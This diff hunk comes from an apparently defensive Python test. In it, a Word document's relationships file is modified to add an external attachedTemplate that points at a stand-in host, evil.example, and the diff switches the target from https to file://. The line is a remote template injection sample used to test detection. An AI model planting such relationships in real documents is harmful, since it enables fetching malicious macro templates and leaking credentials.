@@ -122,7 +122,7 @@ def test_a_tag_in_pieces_is_one():
                 "word/_rels/document.xml.rels",
                 lambda xml: xml.replace(
                     b"</Relationships>",
-                    b'<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+                    b'<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file://evil.example/a.dotm" TargetMode="External"/></Relationships>',
                 ),
             ),
             "ほかの場所のファイルを読み込む",
